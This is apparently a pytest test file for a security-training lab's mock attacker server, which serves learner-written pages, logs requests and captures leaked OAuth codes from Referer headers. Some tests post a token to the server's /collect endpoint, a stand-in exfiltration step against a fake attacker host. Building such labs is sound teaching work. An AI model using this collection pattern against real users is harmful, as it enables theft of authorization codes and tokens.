"""The attacker's server: serves what the learner writes, logs everything that reaches it."""
import pytest


def test_serves_a_written_page_and_logs_the_request_whole(lab, http):
    url = lab.attacker.serve("/exploit", "<p>hello</p>")
    assert url == f"{lab.attacker.url}/exploit"
    r = http.get(url + "?code=abc&state=xyz", headers={"Referer": "http://127.0.0.1:1/cb?code=leaked"})
    assert r.status_code == 200 and r.text == "<p>hello</p>" and r.headers["Content-Type"].startswith("text/html")
    hit = lab.attacker.last()
    assert hit.method == "GET" and hit.path == "/exploit" and hit.url == url + "?code=abc&state=xyz"
    assert hit.query == {"code": "abc", "state": "xyz"} and hit.referer_query == {"code": "leaked"}
    assert lab.attacker.find("leaked") == [hit]
    frame = lab.attacker.frame()
    assert list(frame.columns) == ["method", "path", "query", "referer", "user_agent", "body"]
    assert frame.loc[hit.id, "query"] == "code=abc&state=xyz"


def test_json_documents_redirects_and_bodies(lab, http):
    lab.attacker.serve("/jwks.json", '{"keys": []}', content_type="application/json")
    assert http.get(f"{lab.attacker.url}/jwks.json").json() == {"keys": []}
    lab.attacker.redirect("/go", f"{lab.api_url}/health")
    r = http.get(f"{lab.attacker.url}/go", allow_redirects=False)
    assert r.status_code == 302 and r.headers["Location"] == f"{lab.api_url}/health"
    http.post(f"{lab.attacker.url}/collect", data={"token": "t0k"})
    assert lab.attacker.last().text() == "token=t0k" and lab.attacker.last().method == "POST"


def test_unknown_paths_are_404_but_still_logged(lab, http):
    r = http.get(f"{lab.attacker.url}/nothing?x=1")
    assert r.status_code == 404 and "lab.attacker.serve" in r.text
    assert lab.attacker.last().path == "/nothing"


def test_bad_pages_are_refused_at_once(lab):
    for path in ("exploit", "/a?b=c", "/a#frag"):
        with pytest.raises(ValueError):
            lab.attacker.serve(path, "x")
    with pytest.raises(ValueError):
        lab.attacker.redirect("/r", "http://x", status=200)


def test_reset_forgets_pages_and_log_and_the_wiretap_names_it(lab, http):
    lab.attacker.serve("/p", "x")
    with lab.session(tapped=True) as s:
        assert s.get(f"{lab.attacker.url}/p").status_code == 200
    assert lab.wiretap.last().server == "attacker"
    lab.reset()
    assert lab.attacker.records == [] and lab.attacker.pages() == {}
    assert http.get(f"{lab.attacker.url}/p").status_code == 404
